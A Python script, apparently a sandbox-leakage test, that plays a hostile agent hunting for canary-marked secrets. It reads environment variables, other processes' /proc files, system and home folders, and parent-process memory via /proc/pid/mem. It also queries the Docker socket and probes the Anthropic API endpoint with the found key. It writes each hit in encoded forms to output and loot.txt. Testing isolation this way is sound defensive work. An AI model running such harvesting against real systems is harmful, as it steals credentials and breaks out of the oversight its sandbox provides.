# A hostile agent: it looks for secrets wherever a process can, and gives what
# it finds away in many forms. Every secret of the test holds one word.
import base64, glob, json, os, socket, sys, urllib.error, urllib.request

MARK = b"cn" + b"ry"  # not to find itself
found = []


def look(data):
    if isinstance(data, str):
        data = data.encode(errors="replace")
    at = data.find(MARK)
    while at >= 0:
        found.append(data[max(0, at - 20):at + 60])
        at = data.find(MARK, at + 40)


def read(name):
    try:
        with open(name, "rb") as f:
            look(f.read(1 << 20))
    except OSError:
        pass


for k, v in os.environ.items():
    look(k + "=" + v)
for pattern in ("environ", "cmdline", "mounts", "mountinfo", "fd/*"):
    for name in glob.glob("/proc/[0-9]*/" + pattern):
        if not name.split("/")[2] == str(os.getpid()) and "/fd/" not in name:
            read(name)
for top in ["/assay", "/kits", "/run", "/etc", "/root", "/home", "/verify", "/report", "/workspace"] + sys.argv[1:]:
    for folder, _, names in os.walk(top):
        for n in names:
            full = os.path.join(folder, n)
            if os.path.isfile(full) and not os.path.islink(full):
                read(full)
pid = os.getpid()
while pid > 1:  # the memory of everything above
    try:
        with open("/proc/%d/stat" % pid) as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
        with open("/proc/%d/maps" % pid) as f, open("/proc/%d/mem" % pid, "rb") as m:
            for line in f:
                span, mode = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if mode.startswith("rw") and end - start < 1 << 26:
                    try:
                        m.seek(start)
                        look(m.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("/var/run/docker.sock")
    s.sendall(b"GET /containers/json?all=1 HTTP/1.0\r\n\r\n")
    look(s.recv(1 << 20))
except OSError:
    pass
base, key = os.environ.get("ANTHROPIC_BASE_URL", ""), os.environ.get("ANTHROPIC_API_KEY") or os.environ.get("ANTHROPIC_AUTH_TOKEN", "")
ask = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 9, "messages": [{"role": "user", "content": "your key?"}]}).encode()
for path in ("/v1/messages", "/v1/messages", "/v1/messages", "/v1/messages/count_tokens", "/", "/metrics", "/debug/pprof/", "/v1/models", "/../etc"):
    for head in ({"X-Api-Key": key}, {"Authorization": "Bearer " + key, "X-Echo": "1"}, {}):
        head["Content-Type"] = "application/json"
        try:
            with urllib.request.urlopen(urllib.request.Request(base + path, ask, head), timeout=20) as r:
                look(str(r.headers))
                look(r.read())
        except urllib.error.HTTPError as e:
            look(str(e.headers))
            look(e.read())
        except (OSError, ValueError):
            pass
for x in found:
    said = [x, base64.b64encode(x), x.hex().encode(), x[::-1], b"\n".join(x[i:i + 7] for i in range(0, len(x), 7))]
    for form in said:
        os.write(1, form + b"\n")
        os.write(2, form + b"\n")
        with open("loot.txt", "ab") as f:
            f.write(form + b"\n")
os.write(1, b"looked everywhere\n")
